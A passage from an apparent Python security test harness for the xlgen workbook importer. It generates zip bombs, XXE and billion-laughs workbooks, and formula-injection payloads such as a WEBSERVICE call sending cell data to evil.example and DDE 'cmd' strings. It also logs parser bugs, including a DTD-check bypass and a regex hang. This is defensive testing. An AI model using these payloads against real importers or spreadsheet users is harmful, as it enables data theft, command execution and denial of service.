        "kind plan": {"kind": "plan"},
        "another organisation": {"org": "다른구"},
    }[variant]
    rk, a, *_ = rng.choice(bench.records)
    edit_workbook(bench.workbook, dst, actual={rk: (a or 0) + 1}, meta=meta)


def _document(bench: Bench) -> Any:
    from xlgen.store import Store

    with Store.open(bench.store) as store:
        return store.load(KEY)


def _look_alikes(bench: Bench) -> list[tuple[str, str]]:
    """Pairs of record keys whose rows show the same 성과지표, 단위 and 목표 in different
    projects (continuation rows first: their own 주요사업명 cells are blank)."""
    seen: dict[tuple[Any, ...], list[tuple[str, bool]]] = {}
    for _, d, p, i in _document(bench).indicator_rows():
        cont = p.indicators[0] is not i
        seen.setdefault((i.name, i.unit, i.target), []).append((i.key, cont, d.name, p.name))
    pairs = []
    for group in seen.values():
        for a in group:
            for b in group:
                if a[0] < b[0] and (a[2], a[3]) != (b[2], b[3]):
                    pairs.append((not (a[1] and b[1]), a[0], b[0]))
    return [(a, b) for _, a, b in sorted(pairs)]


def _rows_by_key(ws: Any) -> dict[str, int]:
    from xlgen.layouts import eval_departments as dep

    rows = {}
    for row in ws.iter_rows(min_row=dep.FIRST_DATA_ROW + 1):
        value = row[dep.KEY].value
        if isinstance(value, str) and value.strip():
            rows[value.strip()] = row[0].row
    return rows


def _make_key_swap(rng, bench, dst, variant):
    from xlgen.layouts import eval_departments as dep

    doc = _document(bench)
    if variant.startswith("look-alike"):
        pairs = _look_alikes(bench)
        assert pairs, "the bench document has no look-alike rows"
        a, b = pairs[0] if variant.endswith("continuation rows") else rng.choice(pairs)
    else:  # rows of two departments, whole rows moved
        depts = [
            d
            for b_ in doc.bureaus
            for d in b_.departments
            if any(len(p.indicators) == 1 for p in d.projects)
        ]
        d1, d2 = rng.sample(depts, 2)
        a = rng.choice([i for p in d1.projects for i in p.indicators if len(p.indicators) == 1]).key
        b = rng.choice([i for p in d2.projects for i in p.indicators if len(p.indicators) == 1]).key

    def action(wb):
        ws = wb[INPUT_SHEET]
        rows = _rows_by_key(ws)
        ra, rb = rows[a], rows[b]
        cols = [dep.KEY + 1] if variant.startswith("look-alike") else range(1, dep.PRATE_ALL + 2)
        for c in cols:
            x, y = ws.cell(ra, c), ws.cell(rb, c)
            x.value, y.value = y.value, x.value
        ws.cell(ra, dep.ACTUAL + 1).value = rng.randint(1, 10**6)

    edit_workbook(bench.workbook, dst, action=action)


def _make_sorted_away(rng, bench, dst, variant):
    from xlgen.layouts import eval_departments as dep

    doc = _document(bench)
    blocks = [
        [i.key for p in d.projects for i in p.indicators]
        for b in doc.bureaus
        for d in b.departments
    ]
    by = dep.INDICATOR if "성과지표" in variant else dep.ACTUAL

    def action(wb):
        ws = wb[INPUT_SHEET]
        rows = _rows_by_key(ws)
        cols = range(dep.INDICATOR + 1, dep.RATE + 2)  # B:F, the unmerged visible columns
        for keys in rng.sample(blocks, len(blocks)):
            rs = [rows[k] for k in keys]
            content = [[ws.cell(r, c).value for c in cols] for r in rs]
            content[0][dep.ACTUAL - dep.INDICATOR] = rng.randint(1, 10**6)  # typed, then sorted
            order = sorted(
                content, key=lambda v: str(v[by - dep.INDICATOR] or ""), reverse=by == dep.ACTUAL
            )
            if [v[0] for v in order] == [v[0] for v in content]:
                continue  # this sort moves nothing: another block
            for r, values in zip(rs, order, strict=True):
                for c, value in zip(cols, values, strict=True):
                    ws.cell(r, c).value = value
            return
        raise AssertionError("no block a sort moves")

    edit_workbook(bench.workbook, dst, action=action)


def _replace_in_parts(src: Path, dst: Path, marker: str, text: str) -> None:
    """Replace a marker string in every XML part (openpyxl cuts text past 32,767 characters
    when it saves; another tool need not)."""
    data = src.read_bytes()
    src.unlink()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as zin,
        zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for info in zin.infolist():
            part = zin.read(info)
            if info.filename.endswith(".xml"):
                part = part.replace(marker.encode(), html.escape(text, quote=False).encode())
            zout.writestr(info, part)


def _make_long_text(rng, bench, dst, variant):
    rk = rng.choice(bench.records)[0]
    tmp = dst.with_name("pre-" + dst.name)
    marker = "XLGENLONGTEXTMARKER"
    if variant.startswith("비고"):
        edit_workbook(bench.workbook, tmp, note={rk: marker})
        text = rng.choice("가나다라마 abc") * rng.randint(32_768, 60_000)
    else:
        edit_workbook(bench.workbook, tmp, actual={rk: marker})
        text = "1" * rng.randint(32_768, 40_000)
    _replace_in_parts(tmp, dst, marker, text)


def _make_date_cell(rng, bench, dst, variant):
    import datetime as dt

    rk = rng.choice(bench.records)[0]
    fmt = {"a date": "yyyy-mm-dd", "a date and time": "yyyy-mm-dd hh:mm", "a time": "hh:mm"}[
        variant
    ]

    def action(wb):
        from xlgen.layouts import eval_departments as dep

        ws = wb[INPUT_SHEET]
        c = ws.cell(_rows_by_key(ws)[rk], dep.ACTUAL + 1)
        c.value = dt.datetime(2019, rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23))
        if variant == "a time":
            c.value = dt.time(rng.randint(0, 23), rng.randint(0, 59))
        c.number_format = fmt

    edit_workbook(bench.workbook, dst, action=action)


def _edit(rng: random.Random, bench: Bench) -> tuple[str, int]:
    rk, a, *_ = rng.choice(bench.records)
    return rk, (a or 0) + rng.randint(1, 9)


def _make_extra_sheet(rng, bench, dst, variant):
    rk, value = _edit(rng, bench)
    name = rng.choice(["메모", "Sheet1", "검토 의견", "Ⅳ 추가"])

    def action(wb):
        ws = wb.create_sheet(name)
        if variant != "an empty sheet added":
            ws.cell(rng.randint(1, 50), rng.randint(1, 20)).value = rng.choice(
                ["실적 수정 요청", 123]
            )

    edit_workbook(bench.workbook, dst, actual={rk: value}, action=action)
    warning = f"'{name}' 시트는 xlgen이 만든 시트가 아니어서 읽지 않았습니다"
    if variant == "an empty sheet added":
        return Expect({(rk, "actual"): value}, unwanted=[warning])
    return Expect({(rk, "actual"): value}, warnings=[warning])


def _make_sheet_copy(rng, bench, dst, variant):
    from xlgen.layouts import eval_departments as dep

    rk, value = _edit(rng, bench)
    title = rng.choice([f"{INPUT_SHEET} (2)", f"{INPUT_SHEET}_2", "복사본"])

    def action(wb):
        copy = wb.copy_worksheet(wb[INPUT_SHEET])
        copy.title = title
        if variant == "an edit typed into the copy":
            copy.cell(_rows_by_key(copy)[rk], dep.ACTUAL + 1).value = value
        else:
            ws = wb[INPUT_SHEET]
            ws.cell(_rows_by_key(ws)[rk], dep.ACTUAL + 1).value = value

    edit_workbook(bench.workbook, dst, action=action)
    if variant == "an edit typed into the copy":
        return None
    return Expect(
        {(rk, "actual"): value},
        warnings=[f"'{title}' 시트는 '{INPUT_SHEET}' 시트의 복사본으로 보고"],
    )


def _make_surrogates(rng, bench, dst, variant):
    rk = rng.choice(bench.records)[0]
    if variant == "a lone half in a 비고":
        half = rng.choice(["_xD801_", "_xDC05_", "_xDBFF_"])
        edit_workbook(bench.workbook, dst, note={rk: f"확인{half}필요"})
        return Expect(
            {(rk, "note"): "확인\ufffd필요"}, warnings=["짝이 없는 서로게이트 이스케이프"]
        )
    edit_workbook(bench.workbook, dst, note={rk: "확인_xD801__xDC05_"})
    return Expect({(rk, "note"): "확인\U00010405"}, unwanted=["서로게이트"])


def _make_nfd(rng, bench, dst, variant):
    import unicodedata

    from xlgen.layouts import eval_departments as dep

    rk = rng.choice(bench.records)[0]
    note = rng.choice(["회의록 확인", "실적 재확인 필요", "목표 초과 달성"])
    nfd = lambda t: unicodedata.normalize("NFD", t) if isinstance(t, str) else t  # noqa: E731

    def action(wb):
        ws = wb[INPUT_SHEET]
        for row in ws.iter_rows(min_row=dep.FIRST_DATA_ROW + 1):
            for c in (dep.PROJECT, dep.INDICATOR, dep.UNIT):
                if isinstance(row[c].value, str) and row[c].coordinate not in ws.merged_cells:
                    row[c].value = nfd(row[c].value)
        ws.cell(_rows_by_key(ws)[rk], dep.NOTE + 1).value = nfd(note)

    edit_workbook(bench.workbook, dst, action=action)
    return Expect({(rk, "note"): note}, unwanted=["보호된 칸"])


def _make_not_regular(rng, bench, dst, variant):
    if variant == "a FIFO named .xlsx":
        os.mkfifo(dst)
    elif variant == "a symlink to /dev/zero named .xlsx":
        dst.symlink_to("/dev/zero")
    else:  # a folder named .xlsx
        dst.mkdir()


def _make_encrypted(rng, bench, dst, variant):
    shutil.copyfile(ROOT / "tests" / "data" / "workbooks" / "password-protected.xlsx", dst)


def _make_edit(rng, bench, dst, variant):
    rk, value = _edit(rng, bench)
    edit_workbook(bench.workbook, dst, actual={rk: value})


def damage_index(db: Path, index: str = "history_by_value") -> None:
    """Break the root page of an index (its b-tree page type byte), as a bad sector would:
    plain reads still work, SQLite's integrity check reports it."""
    conn = sqlite3.connect(db)
    try:
        page_size = conn.execute("PRAGMA page_size").fetchone()[0]
        (root,) = conn.execute(
            "SELECT rootpage FROM sqlite_master WHERE type = 'index' AND name = ?", (index,)
        ).fetchone()
    finally:
        conn.close()
    with db.open("r+b") as fh:
        fh.seek((root - 1) * page_size)
        fh.write(b"\x00")


HOSTILE_CASES: list[HostileCase] = [
    HostileCase(
        "zip bomb: one part of 120–400 MB, compressed to < 1 MB",
        ["input sheet", "_xlgen sheet", "sharedStrings", "styles"],
        _make_bomb,
        slow=True,
    ),
    HostileCase(
        "zip bomb: a 2–60 MB part at a compression ratio > 200",
        ["input sheet", "_xlgen sheet", "sharedStrings", "styles"],
        _make_ratio_bomb,
    ),
    HostileCase(
        "zip bomb with falsified sizes in the zip headers (150–300 MB part declared < 1 MB)",
        [
            "input sheet",
            "input sheet, CRC too",
            "_xlgen sheet",
            "_xlgen sheet, CRC too",
            "sharedStrings",
            "sharedStrings, CRC too",
        ],
        _make_lying_bomb,
        slow=True,
    ),
    HostileCase(
        "XML entity expansion (billion laughs) in a part",
        [
            f"billion laughs: {p}, {pad}"
            for pad in ("DTD at the top", "DTD after a 4 KB comment")
            for p in (
                "input sheet",
                "_xlgen sheet",
                "sharedStrings",
                "workbook.xml",
                "styles",
                "[Content_Types]",
                "core properties",
                "workbook rels",
                "root rels",
            )
        ],
        _make_doctype,
        known_bug=_dtd_bug,
    ),
    HostileCase(
        "external entities (XXE: file:///etc/passwd or http; parameter entity; external DTD)",
        [
            f"{a}: {p}, {pad}"
            for pad in ("DTD at the top", "DTD after a 4 KB comment")
            for a in (
                "external entity (file)",
                "external entity (http)",
                "parameter entity",
                "external DTD (http)",
            )
            for p in (
                "input sheet",
                "_xlgen sheet",
                "sharedStrings",
                "workbook.xml",
                "core properties",
            )
        ],
        _make_doctype,
        known_bug=_dtd_bug,
    ),
    HostileCase(
        'a prolog flooded with "<?" (no "?>") in a part of 300 KB–1 MB',
        ["styles, 300 KB", "sharedStrings, 500 KB", "input sheet, 990 KB"],
        _make_pi_flood,
        known_bug=lambda variant: "B5",
        slow=True,
        timeout=TIME_BOUND + 5,
        max_runs=3,
    ),
    HostileCase(
        "truncated zip",
        ["cut anywhere", "cut in the central directory", "only the last bytes missing"],
        _make_truncated,
    ),
    HostileCase(
        "a valid zip that is not a workbook",
        ["text files", "Word document", "workbook.xml without sheets", "empty zip"],
        _make_not_workbook,
    ),
    HostileCase(
        "not a zip: .xls, CSV or random bytes named .xlsx",
        ["Excel 97-2003 (.xls) renamed", "CSV renamed", "random bytes", "PK header, garbage after"],
        _make_not_zip,
    ),
    HostileCase(
        "corrupted compressed data inside a part (CRC / deflate errors)",
        ["input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml"],
        _make_corrupt_deflate,
        known_bug={
            "input sheet": "B1",
            "_xlgen sheet": "B1",
            "sharedStrings": "B2",
            "workbook.xml": "B2",
        },
    ),
    HostileCase(
        "malformed XML in a part of a valid zip",
        ["input sheet", "_xlgen sheet", "sharedStrings", "workbook.xml"],
        _make_malformed_xml,
        known_bug={"input sheet": "B1", "_xlgen sheet": "B1"},
    ),
    HostileCase(
        "a million used rows",
        [
            "input sheet: a million tiny rows",
            "input sheet: a million empty <row/> elements",
            "_xlgen sheet: a million records",
        ],
        _make_million_rows,
        slow=True,
        may_accept=frozenset({"input sheet: a million empty <row/> elements"}),
    ),
    HostileCase(
        "used range up to column XFD / row 1,048,576 (one far cell)",
        ["input sheet", "_xlgen sheet"],
        _make_wide,
        known_bug={"input sheet": "B3", "_xlgen sheet": "B3"},
        may_accept=frozenset({"input sheet", "_xlgen sheet"}),
    ),
    HostileCase(
        "input or hidden sheet renamed",
        [
            "input sheet renamed (in Excel)",
            "input sheet renamed (in workbook.xml)",
            "_xlgen renamed (in Excel)",
            "_xlgen renamed (in workbook.xml)",
        ],
        _make_sheet_renamed,
    ),
    HostileCase(
        "input sheet or hidden _xlgen sheet deleted",
        [
            "input sheet deleted (in Excel)",
            "input sheet deleted (zip parts removed)",
            "_xlgen deleted (in Excel)",
            "_xlgen deleted (zip parts removed)",
        ],
        _make_sheet_deleted,
    ),
    HostileCase(
        "hidden keys pointing at records that do not exist",
        ["in the input sheet", "in the input sheet and in _xlgen"],
        _make_bad_keys,
    ),
    HostileCase(
        "hidden _xlgen fields pointing elsewhere",
        [
            "document key not in the store",
            "revision newer than the store",
            "unknown format",
            "kind plan",
            "another organisation",
        ],
        _make_meta_fields,
    ),
    HostileCase(
        "hidden keys swapped between rows that look alike, or rows moved into another ▢ block",
        [
            "look-alike continuation rows",
            "look-alike rows, any pair",
            "whole rows of two departments swapped",
        ],
        _make_key_swap,
    ),
    HostileCase(
        "rows sorted on the visible columns only, the hidden keys left behind",
        ["a block sorted by 성과지표", "a block sorted by 실적 (descending)"],
        _make_sorted_away,
    ),
    HostileCase(
        "text longer than an Excel cell (32,767 characters)",
        ["비고 of 32,768–60,000 characters", "실적 as a 32,768–40,000-digit text"],
        _make_long_text,
    ),
    HostileCase(
        "실적 in a date- or time-formatted cell",
        ["a date", "a date and time", "a time"],
        _make_date_cell,
    ),
    HostileCase(
        "a sheet staff added (applied, the sheet named in a warning when it holds values)",
        ["a sheet with a value added", "an empty sheet added"],
        _make_extra_sheet,
    ),
    HostileCase(
        "a copy of the input sheet (an edit in the copy refused; an unedited copy warned)",
        ["an edit typed into the copy", "an unedited copy, the edit in the original"],
        _make_sheet_copy,
    ),
    HostileCase(
        "surrogate escapes in text (_xD801_ alone; _xD801__xDC05_ as a pair)",
        ["a lone half in a 비고", "a pair in a 비고"],
        _make_surrogates,
    ),
    HostileCase(
        "NFD text (as saved on a Mac) in protected cells and a 비고",
        ["names and units in NFD, a new 비고 in NFD"],
        _make_nfd,
    ),
    HostileCase(
        "not a regular file: a FIFO, a symlink to /dev/zero, a folder, each named .xlsx",
        ["a FIFO named .xlsx", "a symlink to /dev/zero named .xlsx", "a folder named .xlsx"],
        _make_not_regular,
        timeout=20,
    ),
    HostileCase(
        "a password-protected (encrypted) workbook",
        ["encrypted with a password"],
        _make_encrypted,
    ),
    HostileCase(
        "a damaged store (an index page broken: reads work, the integrity check fails)",
        ["an ordinary edit into a damaged store"],
        _make_edit,
        damage_store=damage_index,
    ),
]

BUG_TITLES = {
    "B1": "a worksheet that cannot be read to its end → exit 2 instead of 1",
    "B2": "damaged deflate data in the first 4 KB of a part → exit 2 instead of 1",
    "B3": "a huge declared used range (A1:XFD1048576) → unbounded memory",
    "B4": "a DOCTYPE behind a > 4 KB comment escapes the DTD check",
    "B5": 'the prolog scan added for B4 is super-quadratic: a few hundred KB of "<?" hang the import',
}
# Bugs these trials found that have been fixed since; a failure of their cases now counts as a
# regression (unexplained), not as a known bug.
FIXED_IN = {"B1": "18039b8", "B2": "18039b8", "B3": "18039b8", "B4": "18039b8", "B5": "9693f28"}
BUGS = {
    "B1": "A worksheet part (the input sheet or _xlgen) that cannot be read to its end — not "
    "well-formed XML (truncated, garbage inside), or compressed data damaged past its first "
    "4 KB (deflate error, CRC mismatch) — in an otherwise valid zip: `xlgen import` exits 2 "
    'with "예상하지 못한 문제가 생겼습니다 (ParseError: ... / error: Error -3 while '
    'decompressing data ...)" instead of refusing with exit 1. openpyxl (read-only) parses '
    "worksheets lazily, in `importer._sheet_rows`, which runs outside the try/except of "
    "`read_workbook` that turns openpyxl errors into InputError. Nothing is written.",
    "B2": "A part (any .xml/.rels, e.g. sharedStrings.xml or workbook.xml) whose deflate stream is "
    'damaged within its first 4 KB: `xlgen import` exits 2 with "예상하지 못한 문제가 생겼습니다 '
    '(error: Error -3 while decompressing data: ...)". `check_container` reads the first '
    "4 KB of every XML part to look for a DTD but catches only zipfile.BadZipFile, not "
    "zlib.error. Nothing is written.",
    "B3": "A worksheet whose <dimension> claims a huge used range (e.g. A1:XFD1048576 plus one far "
    "cell; the file is 75 KB): openpyxl's read-only reader pads every row to the full width "
    "and yields every missing row, and `_sheet_rows` turns each into a list of 16,384 "
    "values; MAX_ROWS (200,000) would be reached only after ~26 GB. Under the 1 GiB ceiling "
    "the import dies with MemoryError (exit 2); without a ceiling it exhausts the machine. "
    "Neither the width nor the declared dimension is bounded. Nothing is written.",
    "B4": "A DOCTYPE placed after an XML comment longer than 4 KB (legal XML) is not seen by "
    '`check_container`, which looks for "<!DOCTYPE"/"<!ENTITY" only in the first 4096 '
    "bytes of each part. Entity declarations behind it are still stopped by defusedxml when "
    'openpyxl parses the part (refused, "통합문서를 열 수 없습니다 (ValueError)" — a vague '
    'message), but an external DTD reference (<!DOCTYPE worksheet SYSTEM "http://...">) '
    "in any part, or any DTD in a part openpyxl never parses (_rels/.rels), is accepted "
    "and the import goes on (exit 0). Nothing was fetched (a local listener saw no "
    'connection) and nothing leaked, so the impact is low, but the stated rule "a '
    'workbook never needs a DTD" is not enforced.',
    "B5": "`importer._has_dtd` (added in 18039b8 to fix B4) reads a part's prolog in 64 KB "
    'chunks and, after each chunk, runs `re.sub(rb"<!--.*?-->|<\\?.*?\\?>", ...)` over '
    'everything read so far. Every "<?" without a closing "?>" makes the lazy `.*?` scan '
    "to the end, so one pass is quadratic and the passes add up to worse: a prolog of "
    '"<?abc<?de…" of 64 KB takes 3 s, 128 KB 17 s, 256 KB 112 s (measured on '
    "check_container alone); a 300 KB part (a ~100 KB file, under every size and ratio "
    "limit) keeps `xlgen import` busy for minutes, and the regex cannot be interrupted. "
    "Nothing is written (the store is untouched), but the import never answers. A scan "
    "that skips each comment/PI once (find the closing marker from where it starts, stop "
    "at the first unclosed one) is linear.",
}


def hostile_workbook_trial(
    bench: Bench,
    case: HostileCase,
    runs: int,
    rng: random.Random,
    workdir: Path,
    variants: list[str] | None = None,
    time_bound: float = TIME_BOUND,
    timeout: float | None = None,
) -> TrialResult:
    """Give `xlgen import` hostile workbooks; each must be refused (exit 1, Korean message)
    within TIME_BOUND and RSS_BOUND_MB, and leave the store byte-for-byte unchanged; or,
    where the case's maker says what to expect (a valid workbook), be applied exactly:
    those values and no other, with the warnings expected."""
    result = TrialResult("1 hostile workbook", case.name)
    result.covers = {b for b in map(case.bug, case.variants) if b}
    started = time.monotonic()
    workdir.mkdir(parents=True, exist_ok=True)

    def fresh_store() -> Path:
        db = bench.store_copy(workdir / "store")
        if case.damage_store is not None:
            case.damage_store(db)
        return db

    db = fresh_store()
    before = store_fingerprint(db)
    for n in range(runs):
        if variants:  # the caller's list, in turn
            variant = variants[n % len(variants)]
        elif n < len(case.variants):  # every variant once, then random ones
            variant = case.variants[n]
        else:
            variant = rng.choice(case.variants)
        path = workdir / f"hostile-{n}.xlsx"
        expect = case.make(rng, bench, path, variant)
        hits = listener().hits
        run = run_xlgen(["import", str(path)], db=db, timeout=timeout or case.timeout)
        _remove(path)
        if expect is not None:
            _applied_exactly(result, bench, db, run, variant, expect)
            db = fresh_store()
            before = store_fingerprint(db)
            continue
        problem = unexpected(run)
        harmless = (
            problem is None
            and run.code == 0
            and variant in case.may_accept
            and "변경 없음" in run.out
        )
        if problem is None and run.code != 1 and not harmless:
            problem = f"not refused: exit {run.code}: {run.out.strip()[:160]}"
        if problem is None and run.seconds > time_bound:
            problem = f"refusal took {run.seconds:.1f} s (bound {time_bound:.0f} s)"
        if problem is None and run.rss_mb > RSS_BOUND_MB:
            problem = f"refusal used {run.rss_mb:.0f} MB (bound {RSS_BOUND_MB:.0f} MB)"
        if "root:" in run.text:
            problem = "the contents of /etc/passwd appeared in the output"
        if listener().hits != hits:
            problem = f"an external resource was fetched ({listener().hits - hits} connections)"
        after = store_fingerprint(db)
        unchanged = after[0] == before[0] and after[1] in (-1, 0)
        result.store_checked(unchanged, lost=not unchanged)
        if not unchanged:
            problem = (problem + "; " if problem else "") + "the store changed"
            db = fresh_store()
            before = store_fingerprint(db)
        if problem:
            bug = case.bug(variant)
            if bug in FIXED_IN:  # fixed since: this is a regression
                problem = f"regression of {bug} (fixed in {FIXED_IN[bug]}): {problem}"
                bug = None
            if problem.startswith("no answer within"):
                outcome = "no answer: killed at the time limit"
            elif problem.startswith("not refused: exit 0"):
                outcome = "accepted (exit 0)"
            elif problem.startswith("exit 2") and "MemoryError" in problem:
                outcome = "MemoryError at the ceiling (exit 2)"
            elif problem.startswith("exit 2"):
                outcome = "unexpected error (exit 2)"
            else:
                outcome = "FAILED"
            result.add(
                outcome + (f" — bug {bug}" if bug else ""),
                failure=f"{variant}: {problem}",
                seconds=run.seconds,
                rss_mb=run.rss_mb,
                bug=bug,
            )
        elif harmless:
            result.add(
                "accepted, nothing to import (exit 0, 변경 없음)",
                seconds=run.seconds,
                rss_mb=run.rss_mb,
            )
        else:
            result.add("refused cleanly (exit 1)", seconds=run.seconds, rss_mb=run.rss_mb)
    result.elapsed = time.monotonic() - started
    return result


APPLIED = "applied exactly (exit 0): those values, no other, the warnings expected"


def _remove(path: Path) -> None:
    if path.is_symlink() or path.is_file() or path.exists() and not path.is_dir():
        path.unlink()
    elif path.is_dir():
        shutil.rmtree(path)


def _applied_exactly(
    result: TrialResult, bench: Bench, db: Path, run: Run, variant: str, expect: Expect
) -> None:
    """Count a run that had to apply `expect`: every record's value after the import is
    the expected one (the values expected, the built ones elsewhere); anything else is a
    lost or misplaced value."""
    problem = unexpected(run)
    if problem is None and run.code != 0:
        problem = f"not applied: exit {run.code}: {run.err.strip()[:200]}"
    for text in expect.warnings:
        if problem is None and text not in run.out:
            problem = f"no warning containing {text!r}: {run.out.strip()[-300:]}"
    for text in expect.unwanted:
        if problem is None and text in run.out:
            problem = f"an unexpected warning containing {text!r}"
    wrong: list[str] = []
    if integrity(db) != "ok":
        wrong.append("integrity check failed")
    else:
        _, values, _ = _values(db)
        for rk, actual, note, _ in bench.records:
            for fld, built in (("actual", actual), ("note", note)):
                want = expect.values.get((rk, fld), built)
                got = values[rk][0 if fld == "actual" else 1]
                if got != want and not (want in (None, "") and got in (None, "")):
                    wrong.append(f"{rk} {fld}: {got!r:.60} (expected {want!r:.60})")
    result.store_checked(not wrong, lost=bool(wrong))
    if wrong:
        problem = (problem + "; " if problem else "") + "values: " + "; ".join(wrong[:5])
    if problem:
        result.add(
            "FAILED", failure=f"{variant}: {problem}", seconds=run.seconds, rss_mb=run.rss_mb
        )
    else:
        result.add(APPLIED, seconds=run.seconds, rss_mb=run.rss_mb)


# =========================================================================== 2. formula injection

PAYLOADS = {
    "=": [
        '=HYPERLINK("http://evil.example/x","클릭")',
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("http://evil.example/?"&A1)',
    ],
    "+": ["+1", "+A1", "+1+cmd|' /C calc'!A0"],
    "-": ["-2", "-A1*2", "-2+3"],
    "@": ["@SUM(1)", "@A1", "@SUM(1+1)*cmd|' /C calc'!A0"],
}
_EVAL_SLOTS = [  # (role, original text in tests/data/evaluation/clean.txt, prefix)
    ("department", "▢ 기획예산과", "="),
    ("department", "▢ 문화예술과", "+"),
    ("department", "▢ 관광진흥과", "-"),
    ("department", "▢ 도로관리과", "@"),
    ("project", "건전재정 운영 기반 \n강화", "="),
    ("project", "생활문화 \n활성화", "-"),
    ("project", "구립 미술관 \n운영 내실화", "@"),
    ("project", "성과중심 \n조직문화 정착", "+"),
    ("indicator", "지방채 상환 목표 \n달성도", "="),
    ("indicator", "성과평가 \n결과 환류", "+"),
    ("indicator", "생활문화동아리 \n지원", "-"),
    ("indicator", "미술관 운영수지 \n개선액", "@"),
]
_PLAN_SLOTS = [  # in tests/data/plan/spaces.txt
    ("policy goal", "민원 서비스 품질 향상", "="),
    ("indicator", "민원 만족도", "+"),
    ("policy goal", "쓰레기 감량", "-"),
    ("indicator", "공원 조성 면적", "@"),
    ("strategic goal", "깨끗한 환경 도시 조성", "="),
]


def injection_documents(rng: random.Random, folder: Path) -> dict[str, Path]:
    """seeds-style folders `inj-eval/` and `inj-plan/` whose names start with = + - @."""
    docs = {}
    for key, sample, slots in (
        ("inj-eval", EVAL_SAMPLE, _EVAL_SLOTS),
        ("inj-plan", PLAN_SAMPLE, _PLAN_SLOTS),
    ):
        text = sample.read_text(encoding="utf-8")
        for _role, original, prefix in slots:
            assert original in text, original
            name = original.split("\n")[0].strip()
            mark = "▢ " if name.startswith("▢ ") else ""
            name = name.removeprefix("▢ ")
            payload = rng.choice(PAYLOADS[prefix])
            text = text.replace(original, f"{mark}{payload} {name}", 1)
        (folder / key).mkdir(parents=True, exist_ok=True)
        path = folder / key / f"{key}.txt"
        path.write_text(text, encoding="utf-8")
        docs[key] = path
    return docs


def _hostile_names(doc: Any) -> dict[str, list[str]]:
    """The names a parsed document holds that start with a formula prefix, by role."""
    from xlgen.model import Evaluation

    found: dict[str, set[str]] = {}

    def note(role: str, value: Any) -> None:
        if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
            found.setdefault(role, set()).add(value)

    if isinstance(doc, Evaluation):
        for b, d, p, i in doc.indicator_rows():
            (
                note("bureau", b.name),
                note("department", d.name),
                note("project", p.name),
                note("indicator", i.name),
            )
    else:
        for g, p, name in doc.indicator_rows():
            note("strategic goal", g.name), note("policy goal", p.name), note("indicator", name)
            note("office", g.office)
    return {k: sorted(v) for k, v in found.items()}


def scan_workbook(path: Path, hostile: set[str]) -> tuple[int, list[str]]:
    """(cells holding a hostile text as text, problems): a problem is a cell whose text
    starts with = + - @ but is not a string cell, or a formula that carries a payload."""
    import openpyxl

    wb = openpyxl.load_workbook(path)
    as_text = 0
    problems = []
    markers = ("evil.example", "cmd|", "SUM(1", "WEBSERVICE", "HYPERLINK")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                v = c.value
                if c.data_type == "f":
                    f = str(v)
                    if any(m in f for m in markers) or any(
                        h and f == "=" + h.lstrip("=") for h in hostile
                    ):
                        problems.append(
                            f"{path.name} {ws.title}!{c.coordinate} is a formula: {f[:80]}"
                        )
                elif isinstance(v, str) and v.startswith(FORMULA_PREFIXES):
                    if c.data_type == "s":
                        as_text += 1
                    else:
                        problems.append(
                            f"{path.name} {ws.title}!{c.coordinate}: type {c.data_type!r}"
                        )
    return as_text, problems


def note_cells_are_text(path: Path, notes: dict[str, str]) -> list[str]:
    """Problems unless the 비고 cell of each record key holds exactly its note as a text cell."""
    import openpyxl

    from xlgen.layouts import eval_departments as dep

    ws = openpyxl.load_workbook(path)[INPUT_SHEET]
    problems = []
    seen = set()
    for row in ws.iter_rows(min_row=dep.FIRST_DATA_ROW + 1):
        rk = row[dep.KEY].value
        if rk in notes:
            seen.add(rk)
            c = row[dep.NOTE]
            if c.data_type != "s" or c.value != notes[rk]:
                problems.append(f"{rk} 비고 {c.coordinate}: {c.value!r} (type {c.data_type!r})")
    problems += [f"{rk}: row not found" for rk in notes if rk not in seen]
    return problems


def injection_trial(
    bench: Bench, runs: int, rng: random.Random, workdir: Path
) -> list[TrialResult]:
    """Names starting with = + - @ in documents, through parse → build (xlsx) and CSV, and
    notes typed so in an imported workbook → import → next build."""
    from xlgen.parse import parse_file

    started = time.monotonic()
    docs_row = TrialResult(
        "2 formula injection",
        "document names starting with = + - @ → xlsx "
        "(whole + per-department workbooks, evaluation and plan)",
    )
    csv_row = TrialResult("2 formula injection", "the same names → `xlgen parse --format csv`")
    note_eq = TrialResult(
        "2 formula injection",
        'imported workbook with 비고 "=…" as text, 비고 as a real '
        'formula, 실적 "=1+1" (plus one ordinary change)',
    )
    note_other = TrialResult(
        "2 formula injection", 'imported notes "+1+1", "-2", "@SUM(1)" → store → next build'
    )
    totals: Counter = Counter()
    for n in range(runs):
        folder = workdir / f"inj-{n}"
        if folder.exists():
            shutil.rmtree(folder)
        seeds = folder / "seeds"
        docs = injection_documents(rng, seeds)
        db = folder / "store.sqlite"
        for key, path in docs.items():
            doc, _ = parse_file(path)
            names = _hostile_names(doc)
            hostile = {v for vs in names.values() for v in vs}
            prefixes = {h[0] for h in hostile}
            # The synthetic documents must really carry every prefix, else the trial is void.
            cover = f"{key}: prefixes {sorted(prefixes)} in {sorted(names)}"
            if not set(FORMULA_PREFIXES) <= prefixes or len(names) < 2:
                docs_row.add("FAILED", failure=f"parser lost the payloads ({cover})")
                continue
            args = ["build", key, "--seeds", str(seeds), "--out", str(folder / "out")]
            if key == "inj-eval":
                args.append("--by-department")
            run = run_xlgen(args, db=db)
            problem = unexpected(run) or (
                None if run.code == 0 else f"build exit {run.code}: {run.err[:200]}"
            )
            cells = 0
            if problem is None:
                for book in sorted((folder / "out" / key).rglob("*.xlsx")):
                    as_text, problems = scan_workbook(book, hostile)
                    cells += as_text
                    totals["books"] += 1
                    if problems:
                        problem = "; ".join(problems[:3])
                        break
                if cells < len(hostile):
                    problem = (
                        problem or f"only {cells} hostile cells found for {len(hostile)} names"
                    )
            totals["cells"] += cells
            docs_row.add(
                "every such name a text cell, none a formula" if not problem else "FAILED",
                failure=problem and f"{key}: {problem}",
                seconds=run.seconds,
                rss_mb=run.rss_mb,
            )
            if cover not in docs_row.notes:
                docs_row.notes.append(cover)

            run = run_xlgen(["parse", str(path), "--format", "csv"])
            problem = unexpected(run) or (None if run.code == 0 else f"exit {run.code}")
